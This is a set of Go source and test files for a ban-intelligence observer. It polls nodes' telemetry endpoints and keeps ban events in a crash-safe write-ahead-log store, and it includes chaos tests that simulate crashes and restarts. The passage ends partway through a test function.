// highest-Seq event — the current state of an observer-synthesized
// transition stream. Pollers seed their in-memory transition trackers from
// it after a restart so an unchanged status is not re-emitted.
func (s *Store) LatestByStream(node, stream string) map[string]Event {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make(map[string]Event)
	for _, idx := range s.byNode[node] {
		ev := s.events[idx]
		if ev.Stream != stream {
			continue
		}
		if prev, ok := out[ev.Peer]; !ok || ev.Seq > prev.Seq {
			out[ev.Peer] = ev
		}
	}
	return out
}

// appendRecordLocked frames payload into the pending buffer, assigns it the
// next LSN, and flushes opportunistically past the threshold.
func (s *Store) appendRecordLocked(payload []byte) {
	s.pending = banstore.AppendFrame(s.pending, payload)
	s.nextLSN++
	s.sinceSnap++
	if len(s.pending) >= s.opts.FlushBytes {
		_ = s.flushLocked(false)
	}
	if s.opts.SnapshotEvery > 0 && s.sinceSnap >= s.opts.SnapshotEvery {
		_ = s.snapshotLocked()
	}
}

// flushLocked writes the pending buffer to the active segment, optionally
// fsyncing. The buffer is written whole and in order: the file is always a
// prefix of the append sequence.
func (s *Store) flushLocked(fsync bool) error {
	if len(s.pending) > 0 && s.f != nil {
		if _, err := s.f.Write(s.pending); err != nil {
			return err
		}
		s.pending = s.pending[:0]
	}
	if fsync && s.f != nil {
		return s.f.Sync()
	}
	return nil
}

// Sync flushes the pending buffer and fsyncs the active segment.
func (s *Store) Sync() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return nil
	}
	return s.flushLocked(true)
}

// Snapshot writes the full table state to a new snapshot file, rotates the
// active segment, and prunes segments and snapshot generations the newest
// SnapshotKeep snapshots no longer need.
func (s *Store) Snapshot() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return nil
	}
	return s.snapshotLocked()
}

func (s *Store) snapshotLocked() error {
	if err := s.flushLocked(s.opts.Fsync); err != nil {
		return err
	}
	lsn := s.nextLSN - 1
	buf := banstore.EncodeSnapshotFile(snapMagic, lsn, encodeSnapshotPayload(s.events, s.cursors))
	if err := banstore.WriteFileAtomic(filepath.Join(s.opts.Dir, banstore.SnapshotFileName(lsn)), buf, s.opts.Fsync); err != nil {
		return err
	}
	s.snapLSN = lsn
	s.sinceSnap = 0
	if err := s.rotateSegmentLocked(); err != nil {
		return err
	}
	s.pruneLocked()
	return nil
}

// rotateSegmentLocked closes the active segment and begins a fresh one at
// the current LSN frontier.
func (s *Store) rotateSegmentLocked() error {
	if s.f != nil {
		if s.opts.Fsync {
			_ = s.f.Sync()
		}
		_ = s.f.Close()
		s.f = nil
	}
	return s.createSegmentLocked()
}

// createSegmentLocked opens a new active segment starting at nextLSN.
func (s *Store) createSegmentLocked() error {
	path := filepath.Join(s.opts.Dir, banstore.SegmentFileName(s.nextLSN))
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, 0o644)
	if err != nil {
		return err
	}
	if _, err := f.Write(banstore.SegmentHeader(walMagic, s.nextLSN)); err != nil {
		_ = f.Close()
		return err
	}
	s.f = f
	s.segStart = s.nextLSN
	if s.opts.Fsync {
		if d, derr := os.Open(s.opts.Dir); derr == nil {
			_ = d.Sync()
			_ = d.Close()
		}
	}
	return nil
}

// pruneLocked deletes snapshot generations beyond SnapshotKeep and WAL
// segments fully covered by the OLDEST retained snapshot (records past it
// may still be needed to roll the older generations forward — but pruning
// only needs the newest, so covered means start <= oldest retained LSN and
// not the active segment).
func (s *Store) pruneLocked() {
	segs, snaps, err := banstore.ScanStoreDir(s.opts.Dir)
	if err != nil {
		return
	}
	if len(snaps) > s.opts.SnapshotKeep {
		for _, old := range snaps[:len(snaps)-s.opts.SnapshotKeep] {
			_ = os.Remove(old.Path)
		}
		snaps = snaps[len(snaps)-s.opts.SnapshotKeep:]
	}
	if len(snaps) == 0 {
		return
	}
	oldest := snaps[0].Start
	for i, seg := range segs {
		// A segment is disposable when the next segment starts at or
		// before oldest+1 (every record in this one is <= oldest) and it
		// is not the active segment.
		if seg.Start == s.segStart {
			continue
		}
		next := uint64(0)
		if i+1 < len(segs) {
			next = segs[i+1].Start
		}
		if next != 0 && next <= oldest+1 {
			_ = os.Remove(seg.Path)
		}
	}
}

// Status reports the store's current shape.
func (s *Store) Status() Status {
	s.mu.Lock()
	defer s.mu.Unlock()
	return Status{
		LSN:          s.nextLSN - 1,
		Events:       len(s.events),
		Nodes:        len(s.byNode),
		PendingBytes: len(s.pending),
		Truncations:  s.truncations,
		SnapshotLSN:  s.snapLSN,
	}
}

// Close flushes the pending buffer (fsyncing per policy) and closes the
// active segment.
func (s *Store) Close() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return nil
	}
	s.closed = true
	err := s.flushLocked(s.opts.Fsync)
	if s.f != nil {
		if cerr := s.f.Close(); err == nil {
			err = cerr
		}
		s.f = nil
	}
	return err
}

// Crash simulates an abrupt kill for the chaos suite: the pending buffer is
// dropped on the floor and the segment is closed without flushing or
// syncing. Everything already written to the OS survives; everything still
// buffered does not — exactly the loss profile whose safety the ordering
// invariant guarantees.
func (s *Store) Crash() {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return
	}
	s.closed = true
	s.pending = nil
	if s.f != nil {
		_ = s.f.Close()
		s.f = nil
	}
}
