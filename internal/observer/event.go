// Package observer is the fleet's ban-intelligence layer: a poller that
// follows every node's telemetry surface (/debug/journal, /healthz,
// /debug/reputation, /debug/banstore, /debug/bans, /metrics) and a
// crash-safe embedded store that dedups what the pollers bring home into
// one queryable, durable timeline — which peers were banned where, on what
// evidence, and how long a ban took to spread across the fleet.
//
// The store reuses internal/banstore's WAL/snapshot framing (CRC32C
// length-prefixed frames, magic+startLSN segments, atomic tmp→rename
// snapshots, truncate-at-first-corruption recovery that never refuses to
// open) and layers typed tables over the log: an append-only event table
// with by-peer and by-node indexes, plus a per-node cursor table recording
// how far each node's journal feed has been consumed. Ordering makes the
// acknowledgment crash-safe: a cursor-advance record is appended after the
// events it acknowledges, so any cursor that survives a crash implies its
// events survived too — on restart the poller resumes from the recovered
// cursor and the dedup key (node, stream, seq) swallows whatever the crash
// made it fetch twice.
//
// The package is in the banlint wallclock and gospawn scopes: time comes
// from an injected vclock.Clock and goroutines start only through the
// audited spawn helper.
package observer

import "time"

// Stream names partition each node's event space. Journal events carry the
// node's own sequence numbers; the other streams are observer-synthesized
// transitions numbered per (node, stream).
const (
	// StreamJournal mirrors the node's telemetry journal: score hits,
	// bans, peer lifecycle, refused connections, detection alarms.
	StreamJournal = "journal"

	// StreamHealth records /healthz status transitions (ok <-> degraded,
	// with reasons).
	StreamHealth = "health"

	// StreamBanstore records /debug/banstore durability transitions.
	StreamBanstore = "banstore"

	// StreamNetgroup records netgroup verdict transitions from
	// /debug/reputation (ok -> probation -> banned and back).
	StreamNetgroup = "netgroup"

	// StreamEvidence carries forensic enrichment fetched from
	// /debug/bans/<peer> after a ban event, keyed by the ban's journal
	// sequence so evidence and verdict stay joined.
	StreamEvidence = "evidence"

	// StreamNode carries node-level facts: node_info identity, restart
	// detections.
	StreamNode = "node"
)

// Synthesized event kinds (journal-stream kinds are the node's own
// telemetry.EventType strings).
const (
	KindJournalGap      = "journal_gap"      // ring overwrote events before the poller caught up
	KindHealth          = "health"           // /healthz status transition
	KindBanstoreHealth  = "banstore_health"  // /debug/banstore healthy flip
	KindNetgroupVerdict = "netgroup_verdict" // netgroup status transition
	KindBanEvidence     = "ban_evidence"     // forensic chain summary for a ban
	KindNodeInfo        = "node_info"        // node_info{...} identity labels
	KindNodeRestart     = "node_restart"     // journal sequence space went backwards
)

// Event is one row of the fleet event table. Its identity — the dedup key
// and the idempotent-replay key — is (Node, Stream, Seq).
type Event struct {
	// Node is the reporting node's ID (its -node-id).
	Node string `json:"node"`

	// Stream partitions the node's sequence space.
	Stream string `json:"stream"`

	// Seq is unique within (Node, Stream): the node's own journal
	// sequence for StreamJournal, an observer-assigned counter for
	// synthesized streams, and the referenced journal sequence for
	// StreamEvidence.
	Seq uint64 `json:"seq"`

	// At is the event time: the node's stamp for journal events, the
	// observation time for synthesized ones.
	At time.Time `json:"at"`

	// Kind is the event type (telemetry.EventType string or a Kind*
	// constant).
	Kind string `json:"kind"`

	// Peer is the [IP:Port] identifier involved, or the netgroup key for
	// netgroup verdicts.
	Peer string `json:"peer,omitempty"`

	// Rule is the Table I rule name for score events.
	Rule string `json:"rule,omitempty"`

	// Value carries the magnitude: score delta, ban-time total score,
	// netgroup pressure, dropped count for gaps.
	Value float64 `json:"value,omitempty"`

	// Detail is free-form context (health status, verdict, evidence
	// summary).
	Detail string `json:"detail,omitempty"`
}

// Key is an event's identity in the dedup table.
type Key struct {
	Node   string
	Stream string
	Seq    uint64
}

// Key returns the event's identity.
func (ev *Event) Key() Key { return Key{Node: ev.Node, Stream: ev.Stream, Seq: ev.Seq} }

// Cursor is one node's journal-consumption state: the next_cursor the node
// handed back last, the cumulative events its ring dropped before the
// poller could read them, and the generation base. The base maps the node's
// raw journal sequence space into the store's: stored Seq = Base + raw Seq.
// When a node restarts its journal restarts at 1, so the poller bumps Base
// past every sequence already stored — and because the base rides in the
// durable cursor record, the mapping stays stable across observer crashes
// and the dedup key keeps meaning the same event.
type Cursor struct {
	Next    uint64 `json:"next"`
	Dropped uint64 `json:"dropped"`
	Base    uint64 `json:"base,omitempty"`
}
