package observer

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"
)

// TestFleetQueryAPI exercises the /fleet endpoints: JSON Content-Type
// everywhere, 404 (not 200-with-empty) for unknown peers, and escaped peer
// identifiers resolving.
func TestFleetQueryAPI(t *testing.T) {
	s := mustOpen(t, t.TempDir())
	defer s.Close()
	attacker := "10.9.9.9:4444"
	at := time.Unix(1700000000, 0)
	s.Ingest(Event{Node: "n1", Stream: StreamJournal, Seq: 1, At: at, Kind: "ban", Peer: attacker, Value: 100})
	s.Ingest(Event{Node: "n2", Stream: StreamJournal, Seq: 1, At: at.Add(time.Second), Kind: "ban", Peer: attacker, Value: 100})

	h := s.QueryHandler()
	get := func(path string) (*httptest.ResponseRecorder, string) {
		t.Helper()
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, path, nil))
		if ct := rec.Header().Get("Content-Type"); ct != "application/json" {
			t.Fatalf("GET %s: Content-Type = %q, want application/json", path, ct)
		}
		return rec, rec.Body.String()
	}

	rec, body := get("/fleet/bans")
	if rec.Code != http.StatusOK || !strings.Contains(body, attacker) {
		t.Fatalf("/fleet/bans: %d %s", rec.Code, body)
	}

	rec, body = get("/fleet/propagation")
	if rec.Code != http.StatusOK {
		t.Fatalf("/fleet/propagation: %d", rec.Code)
	}
	var props []Propagation
	if err := json.Unmarshal([]byte(body), &props); err != nil {
		t.Fatalf("propagation decode: %v", err)
	}
	if len(props) != 1 || props[0].NodesBanned != 2 || props[0].Spread != 1 {
		t.Fatalf("propagation = %+v", props)
	}

	rec, _ = get("/fleet/peers/" + strings.ReplaceAll(attacker, ":", "%3A"))
	if rec.Code != http.StatusOK {
		t.Fatalf("/fleet/peers escaped lookup: %d", rec.Code)
	}

	rec, body = get("/fleet/peers/1.2.3.4:5")
	if rec.Code != http.StatusNotFound {
		t.Fatalf("unknown peer: %d %s, want 404", rec.Code, body)
	}

	rec, _ = get("/fleet/nodes")
	if rec.Code != http.StatusOK {
		t.Fatalf("/fleet/nodes: %d", rec.Code)
	}
	rec, _ = get("/fleet/status")
	if rec.Code != http.StatusOK {
		t.Fatalf("/fleet/status: %d", rec.Code)
	}
}
