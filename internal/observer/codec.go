package observer

import (
	"encoding/binary"
	"errors"
	"math"
	"time"
)

// Record payload encoding, same conventions as internal/banstore: a kind
// byte, then hand-rolled canonical binary — varints, uvarint-length-prefixed
// strings, IEEE float bits, present-flag + UnixNano times. The surrounding
// frame (length + CRC32C) comes from banstore's exported framing helpers.

// Record kinds.
const (
	recEvent  byte = 1 // one deduped fleet event
	recCursor byte = 2 // one node's journal cursor advance
)

var errCorrupt = errors.New("observer: corrupt record")

// File-format magics. Distinct from banstore's so a mis-pointed directory
// fails magic validation instead of replaying the wrong schema.
var (
	walMagic  = []byte("OBWAL001")
	snapMagic = []byte("OBSNAP01")
)

func appendUvarint(b []byte, v uint64) []byte { return binary.AppendUvarint(b, v) }

func appendString(b []byte, s string) []byte {
	b = binary.AppendUvarint(b, uint64(len(s)))
	return append(b, s...)
}

func appendFloat(b []byte, v float64) []byte {
	return binary.LittleEndian.AppendUint64(b, math.Float64bits(v))
}

func appendTime(b []byte, t time.Time) []byte {
	if t.IsZero() {
		return append(b, 0)
	}
	b = append(b, 1)
	return binary.AppendVarint(b, t.UnixNano())
}

// decoder walks one payload with a sticky first error.
type decoder struct {
	b   []byte
	off int
	err error
}

func (d *decoder) fail() { d.err = errCorrupt }

func (d *decoder) uvarint() uint64 {
	if d.err != nil {
		return 0
	}
	v, n := binary.Uvarint(d.b[d.off:])
	if n <= 0 {
		d.fail()
		return 0
	}
	d.off += n
	return v
}

func (d *decoder) varint() int64 {
	if d.err != nil {
		return 0
	}
	v, n := binary.Varint(d.b[d.off:])
	if n <= 0 {
		d.fail()
		return 0
	}
	d.off += n
	return v
}

func (d *decoder) str() string {
	n := d.uvarint()
	if d.err != nil {
		return ""
	}
	if n > uint64(len(d.b)-d.off) {
		d.fail()
		return ""
	}
	s := string(d.b[d.off : d.off+int(n)])
	d.off += int(n)
	return s
}

func (d *decoder) bool() bool {
	if d.err != nil {
		return false
	}
	if d.off >= len(d.b) {
		d.fail()
		return false
	}
	v := d.b[d.off]
	d.off++
	return v != 0
}

func (d *decoder) f64() float64 {
	if d.err != nil {
		return 0
	}
	if d.off+8 > len(d.b) {
		d.fail()
		return 0
	}
	v := math.Float64frombits(binary.LittleEndian.Uint64(d.b[d.off:]))
	d.off += 8
	return v
}

func (d *decoder) time() time.Time {
	if !d.bool() {
		return time.Time{}
	}
	return time.Unix(0, d.varint())
}

// appendEventPayload renders one recEvent payload.
func appendEventPayload(b []byte, ev *Event) []byte {
	b = append(b, recEvent)
	b = appendString(b, ev.Node)
	b = appendString(b, ev.Stream)
	b = appendUvarint(b, ev.Seq)
	b = appendTime(b, ev.At)
	b = appendString(b, ev.Kind)
	b = appendString(b, ev.Peer)
	b = appendString(b, ev.Rule)
	b = appendFloat(b, ev.Value)
	return appendString(b, ev.Detail)
}

func (d *decoder) event() Event {
	return Event{
		Node:   d.str(),
		Stream: d.str(),
		Seq:    d.uvarint(),
		At:     d.time(),
		Kind:   d.str(),
		Peer:   d.str(),
		Rule:   d.str(),
		Value:  d.f64(),
		Detail: d.str(),
	}
}

// appendCursorPayload renders one recCursor payload.
func appendCursorPayload(b []byte, node string, cur Cursor) []byte {
	b = append(b, recCursor)
	b = appendString(b, node)
	b = appendUvarint(b, cur.Next)
	b = appendUvarint(b, cur.Dropped)
	return appendUvarint(b, cur.Base)
}

// record is one decoded WAL entry.
type record struct {
	kind   byte
	event  Event
	node   string
	cursor Cursor
}

// decodeRecord decodes one framed payload.
func decodeRecord(payload []byte) (record, error) {
	if len(payload) == 0 {
		return record{}, errCorrupt
	}
	d := &decoder{b: payload, off: 1}
	rec := record{kind: payload[0]}
	switch rec.kind {
	case recEvent:
		rec.event = d.event()
	case recCursor:
		rec.node = d.str()
		rec.cursor.Next = d.uvarint()
		rec.cursor.Dropped = d.uvarint()
		rec.cursor.Base = d.uvarint()
	default:
		return record{}, errCorrupt
	}
	if d.err != nil {
		return record{}, d.err
	}
	return rec, nil
}

// encodeSnapshotPayload renders the full table state: cursors then events.
// Indexes are not persisted — they are a function of the event table and
// are rebuilt on recovery.
func encodeSnapshotPayload(events []Event, cursors map[string]Cursor) []byte {
	b := make([]byte, 0, 64+len(events)*64)
	b = appendUvarint(b, uint64(len(cursors)))
	for _, node := range sortedKeys(cursors) {
		cur := cursors[node]
		b = appendString(b, node)
		b = appendUvarint(b, cur.Next)
		b = appendUvarint(b, cur.Dropped)
		b = appendUvarint(b, cur.Base)
	}
	b = appendUvarint(b, uint64(len(events)))
	for i := range events {
		ev := &events[i]
		b = appendString(b, ev.Node)
		b = appendString(b, ev.Stream)
		b = appendUvarint(b, ev.Seq)
		b = appendTime(b, ev.At)
		b = appendString(b, ev.Kind)
		b = appendString(b, ev.Peer)
		b = appendString(b, ev.Rule)
		b = appendFloat(b, ev.Value)
		b = appendString(b, ev.Detail)
	}
	return b
}

// decodeSnapshotPayload is encodeSnapshotPayload's inverse.
func decodeSnapshotPayload(payload []byte) (events []Event, cursors map[string]Cursor, err error) {
	d := &decoder{b: payload}
	cursors = make(map[string]Cursor)
	nCursors := d.uvarint()
	for i := uint64(0); i < nCursors && d.err == nil; i++ {
		node := d.str()
		cursors[node] = Cursor{Next: d.uvarint(), Dropped: d.uvarint(), Base: d.uvarint()}
	}
	nEvents := d.uvarint()
	if d.err == nil && nEvents < uint64(len(d.b)) { // sanity: each event costs >=1 byte
		events = make([]Event, 0, nEvents)
	}
	for i := uint64(0); i < nEvents && d.err == nil; i++ {
		events = append(events, d.event())
	}
	if d.err != nil {
		return nil, nil, d.err
	}
	if d.off != len(d.b) {
		return nil, nil, errCorrupt
	}
	return events, cursors, nil
}

func sortedKeys(m map[string]Cursor) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	// Canonical encoding: the same logical state always serializes to the
	// same bytes (insertion-sorted; the maps are small).
	for i := 1; i < len(keys); i++ {
		for j := i; j > 0 && keys[j] < keys[j-1]; j-- {
			keys[j], keys[j-1] = keys[j-1], keys[j]
		}
	}
	return keys
}
