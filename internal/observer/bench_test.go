package observer

import (
	"fmt"
	"testing"
	"time"
)

// BenchmarkObserverIngest measures the store's hot path: dedup check, table
// insert, WAL framing, and the periodic auto-snapshot amortized in. This is
// the rate ceiling on how fast a fleet's pollers can land events.
func BenchmarkObserverIngest(b *testing.B) {
	s, err := OpenStore(Options{Dir: b.TempDir()})
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()

	at := time.Unix(1700000000, 0)
	peers := make([]string, 64)
	for i := range peers {
		peers[i] = fmt.Sprintf("10.0.%d.%d:8333", i/250, i%250)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s.Ingest(Event{
			Node:   "n1",
			Stream: StreamJournal,
			Seq:    uint64(i + 1),
			At:     at,
			Kind:   "score",
			Peer:   peers[i&63],
			Rule:   "duplicate-version",
			Value:  1,
		})
	}
}

// BenchmarkObserverIngestDuplicate measures the dedup fast path — what a
// re-poll after a crash costs per already-stored event.
func BenchmarkObserverIngestDuplicate(b *testing.B) {
	s, err := OpenStore(Options{Dir: b.TempDir()})
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	ev := Event{Node: "n1", Stream: StreamJournal, Seq: 1, Kind: "ban", Peer: "10.0.0.1:8333", Value: 100}
	s.Ingest(ev)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s.Ingest(ev)
	}
}
