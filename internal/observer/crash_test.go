package observer

import (
	"fmt"
	"net/http"
	"sync/atomic"
	"testing"
)

// crashTransport kills the store from inside a poll pass: after serving the
// n-th HTTP request of its lifetime it calls Store.Crash(), which drops the
// pending buffer and closes the segment unsynced — the loss profile of a
// SIGKILL landing between a journal fetch and its cursor acknowledgment.
type crashTransport struct {
	base  http.RoundTripper
	store *Store
	after int32
	count int32
}

func (ct *crashTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	resp, err := ct.base.RoundTrip(r)
	if atomic.AddInt32(&ct.count, 1) == ct.after {
		ct.store.Crash()
	}
	return resp, err
}

// TestObserverCrashRestartNoDupNoLoss is the observer's kill/restart chaos
// scenario: the store is crashed mid-poll at a different request offset
// each cycle — during the journal fetch, during evidence enrichment, during
// the health sweep — then reopened and polling resumes from the recovered
// cursor. At the end, every ban the fleet's journal ever carried must
// appear in the store exactly once: the crash-ordering invariant (cursor
// records append after the events they acknowledge) forbids loss, and the
// (node, stream, seq) dedup key forbids duplication, no matter where the
// kill landed.
func TestObserverCrashRestartNoDupNoLoss(t *testing.T) {
	fn := newFakeNode(t, "n1")
	dir := t.TempDir()

	peerN := 0
	var banned []string
	banOne := func() {
		peerN++
		p := fmt.Sprintf("10.0.%d.%d:4444", peerN/250, peerN%250)
		fn.ban(p)
		banned = append(banned, p)
	}

	// Each cycle: open the store, ban a few fresh peers, poll with a
	// transport armed to crash the store after the k-th request, then
	// restart. Tiny FlushBytes forces events onto disk mid-batch, so
	// crashes land with events durable but their ack still pending — the
	// dangerous half of the window.
	for cycle, k := range []int32{1, 2, 3, 5, 2, 4, 1, 3} {
		store, err := OpenStore(Options{Dir: dir, FlushBytes: 64})
		if err != nil {
			t.Fatalf("cycle %d: OpenStore: %v", cycle, err)
		}
		ct := &crashTransport{base: http.DefaultTransport, store: store, after: k}
		o := New(Config{
			Store:   store,
			Targets: []NodeTarget{fn.target()},
			Client:  &http.Client{Transport: ct},
		})
		for i := 0; i <= cycle%3; i++ {
			banOne()
		}
		for i := 0; i < 4; i++ {
			_ = o.PollNode("n1") // keeps running into the crashed store; all no-ops
		}
		store.Crash() // idempotent when the transport already fired
	}

	// Final clean run: recover and drain.
	store, err := OpenStore(Options{Dir: dir, FlushBytes: 64})
	if err != nil {
		t.Fatalf("final OpenStore: %v", err)
	}
	defer store.Close()
	o := New(Config{Store: store, Targets: []NodeTarget{fn.target()}})
	for i := 0; i < 3; i++ {
		if err := o.PollNode("n1"); err != nil {
			t.Fatalf("final poll: %v", err)
		}
	}

	// Exactly-once: every banned peer has exactly one ban event.
	for _, p := range banned {
		bans := 0
		for _, ev := range store.PeerEvents(p) {
			if isBan(&ev) {
				bans++
			}
		}
		if bans != 1 {
			t.Errorf("peer %s: %d ban events, want exactly 1", p, bans)
		}
	}
	if t.Failed() {
		t.Fatalf("exactly-once violated across %d bans and 8 crash cycles", len(banned))
	}

	// The cursor caught up to the node's journal frontier.
	fn.mu.Lock()
	total := fn.journal.Total()
	fn.mu.Unlock()
	cur, ok := store.Cursor("n1")
	if !ok || cur.Next != total {
		t.Fatalf("final cursor = %+v ok=%v, want next %d", cur, ok, total)
	}

	// Propagation sees every ban exactly once too.
	if got := len(store.Propagation()); got != len(banned) {
		t.Fatalf("propagation rows = %d, want %d", got, len(banned))
	}
}

// TestObserverCrashBeforeAnyAck: a crash before the first cursor ack leaves
// an empty (or partial) store that recovers to a consistent state and
// re-fetches everything.
func TestObserverCrashBeforeAnyAck(t *testing.T) {
	fn := newFakeNode(t, "n1")
	dir := t.TempDir()
	fn.ban("10.7.7.7:7777")

	store, err := OpenStore(Options{Dir: dir, FlushBytes: 64})
	if err != nil {
		t.Fatal(err)
	}
	ct := &crashTransport{base: http.DefaultTransport, store: store, after: 1}
	o := New(Config{Store: store, Targets: []NodeTarget{fn.target()}, Client: &http.Client{Transport: ct}})
	_ = o.PollNode("n1") // crashes during the journal fetch; nothing acked

	store2, err := OpenStore(Options{Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	defer store2.Close()
	if _, ok := store2.Cursor("n1"); ok {
		t.Fatal("cursor survived a crash that preceded any ack")
	}
	o2 := New(Config{Store: store2, Targets: []NodeTarget{fn.target()}})
	if err := o2.PollNode("n1"); err != nil {
		t.Fatal(err)
	}
	if got := len(store2.Bans()); got != 1 {
		t.Fatalf("Bans after recovery = %d, want 1", got)
	}
}
