package observer

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"sync"
	"testing"
	"time"

	"banscore/internal/telemetry"
)

// fakeNode is a real telemetry surface (registry + journal + server mux)
// behind one stable httptest URL. reset() swaps in a fresh journal and
// registry, which is exactly what a node restart looks like to a poller:
// same address, sequence space back at 1.
type fakeNode struct {
	id   string
	http *httptest.Server

	mu       sync.Mutex
	reg      *telemetry.Registry
	journal  *telemetry.Journal
	srv      *telemetry.Server
	healthy  bool
	evidence map[string][]map[string]any // peer -> forensic records
}

func newFakeNode(t *testing.T, id string) *fakeNode {
	t.Helper()
	fn := &fakeNode{id: id, healthy: true, evidence: make(map[string][]map[string]any)}
	fn.reset()
	fn.http = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fn.mu.Lock()
		h := fn.srv.Handler()
		fn.mu.Unlock()
		h.ServeHTTP(w, r)
	}))
	t.Cleanup(fn.http.Close)
	return fn
}

// reset builds a fresh telemetry stack — construction state, or a restart.
func (fn *fakeNode) reset() {
	fn.mu.Lock()
	defer fn.mu.Unlock()
	fn.reg = telemetry.NewRegistry()
	fn.journal = telemetry.NewJournal(4096)
	fn.srv = telemetry.NewServer(fn.reg, fn.journal)
	fn.srv.SetNodeID(fn.id)
	telemetry.RegisterNodeInfo(fn.reg, fn.id, "test-0.0.1")
	fn.srv.SetHealth(func() (bool, map[string]any) {
		fn.mu.Lock()
		defer fn.mu.Unlock()
		if fn.healthy {
			return true, nil
		}
		return false, map[string]any{"degraded": []string{"test-reason"}}
	})
	fn.srv.Handle("/debug/bans/", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		peer := r.URL.Path[len("/debug/bans/"):]
		fn.mu.Lock()
		records := fn.evidence[peer]
		fn.mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		if records == nil {
			w.WriteHeader(http.StatusNotFound)
			_ = json.NewEncoder(w).Encode(map[string]string{"error": "no forensics records for peer " + peer})
			return
		}
		_ = json.NewEncoder(w).Encode(map[string]any{"peer": peer, "records": records})
	}))
}

func (fn *fakeNode) record(ev telemetry.Event) {
	fn.mu.Lock()
	j := fn.journal
	fn.mu.Unlock()
	j.Record(ev)
}

func (fn *fakeNode) ban(peer string) {
	fn.mu.Lock()
	fn.evidence[peer] = []map[string]any{
		{"rule": "duplicate-version", "delta": 100, "score": 100},
	}
	j := fn.journal
	fn.mu.Unlock()
	j.Record(telemetry.Event{Type: telemetry.EventScore, Peer: peer, Rule: "duplicate-version", Value: 100})
	j.Record(telemetry.Event{Type: telemetry.EventBan, Peer: peer, Value: 100})
}

func (fn *fakeNode) setHealthy(ok bool) {
	fn.mu.Lock()
	fn.healthy = ok
	fn.mu.Unlock()
}

func (fn *fakeNode) target() NodeTarget {
	return NodeTarget{ID: fn.id, BaseURL: fn.http.URL}
}

// TestObserverPollIngestsJournal: one poll pass lands journal events,
// evidence enrichment, node_info, and an acknowledged cursor in the store;
// a second pass ingests nothing new.
func TestObserverPollIngestsJournal(t *testing.T) {
	fn := newFakeNode(t, "n1")
	store := mustOpen(t, t.TempDir())
	defer store.Close()

	attacker := "10.9.9.9:4444"
	fn.record(telemetry.Event{Type: telemetry.EventPeerConnect, Peer: attacker, Detail: "inbound"})
	fn.ban(attacker)

	o := New(Config{Store: store, Targets: []NodeTarget{fn.target()}})
	if err := o.PollNode("n1"); err != nil {
		t.Fatalf("PollNode: %v", err)
	}

	if got := len(store.PeerEvents(attacker)); got != 4 { // connect, score, ban, evidence
		t.Fatalf("peer events = %d, want 4: %+v", got, store.PeerEvents(attacker))
	}
	cur, ok := store.Cursor("n1")
	if !ok || cur.Next != 3 {
		t.Fatalf("cursor = %+v ok=%v, want next 3", cur, ok)
	}
	bans := store.Bans()
	if len(bans) != 1 || len(bans[0].Sightings) != 1 {
		t.Fatalf("Bans = %+v", bans)
	}
	if bans[0].Sightings[0].Evidence == "" {
		t.Fatal("ban sighting missing evidence summary")
	}
	var info bool
	for _, ev := range store.LatestByStream("n1", StreamNode) {
		if ev.Kind == KindNodeInfo {
			info = true
		}
	}
	if !info {
		t.Fatal("node_info not recorded")
	}

	before := store.Status().Events
	if err := o.PollNode("n1"); err != nil {
		t.Fatalf("second PollNode: %v", err)
	}
	if after := store.Status().Events; after != before {
		t.Fatalf("idle re-poll grew the store: %d -> %d", before, after)
	}
}

// TestObserverHealthTransitions: only status CHANGES become events, and the
// initial "ok" is not one.
func TestObserverHealthTransitions(t *testing.T) {
	fn := newFakeNode(t, "n1")
	store := mustOpen(t, t.TempDir())
	defer store.Close()
	o := New(Config{Store: store, Targets: []NodeTarget{fn.target()}})

	o.PollNode("n1")
	o.PollNode("n1")
	if got := len(store.LatestByStream("n1", StreamHealth)); got != 0 {
		t.Fatalf("healthy start emitted %d events, want 0", got)
	}

	fn.setHealthy(false)
	o.PollNode("n1")
	o.PollNode("n1") // unchanged degraded state: no second event
	fn.setHealthy(true)
	o.PollNode("n1")

	if got := store.LastSeq("n1", StreamHealth); got != 2 {
		t.Fatalf("health transitions = %d, want 2 (degraded, ok)", got)
	}
}

// TestObserverNodeRestartNewGeneration: when the node's journal restarts,
// the poller records a node_restart, commits a new generation base, and the
// new generation's events coexist with the old ones instead of being
// swallowed by dedup.
func TestObserverNodeRestartNewGeneration(t *testing.T) {
	fn := newFakeNode(t, "n1")
	store := mustOpen(t, t.TempDir())
	defer store.Close()
	o := New(Config{Store: store, Targets: []NodeTarget{fn.target()}})

	first := "10.1.1.1:1111"
	fn.record(telemetry.Event{Type: telemetry.EventPeerConnect, Peer: first, Detail: "inbound"})
	fn.ban(first)
	if err := o.PollNode("n1"); err != nil {
		t.Fatal(err)
	}

	// Node restart: journal sequence space begins again, producing fewer
	// events than the old cursor (restart detection's precondition).
	fn.reset()
	second := "10.2.2.2:2222"
	fn.ban(second)

	// First pass detects the restart and rebases; second pass drains the
	// new generation.
	if err := o.PollNode("n1"); err != nil {
		t.Fatal(err)
	}
	if err := o.PollNode("n1"); err != nil {
		t.Fatal(err)
	}

	if got := len(store.LatestByStream("n1", StreamNode)); got == 0 {
		t.Fatal("no StreamNode events after restart")
	}
	restarts := 0
	for _, pb := range store.Bans() {
		switch pb.Peer {
		case first, second:
		default:
			t.Fatalf("unexpected banned peer %q", pb.Peer)
		}
	}
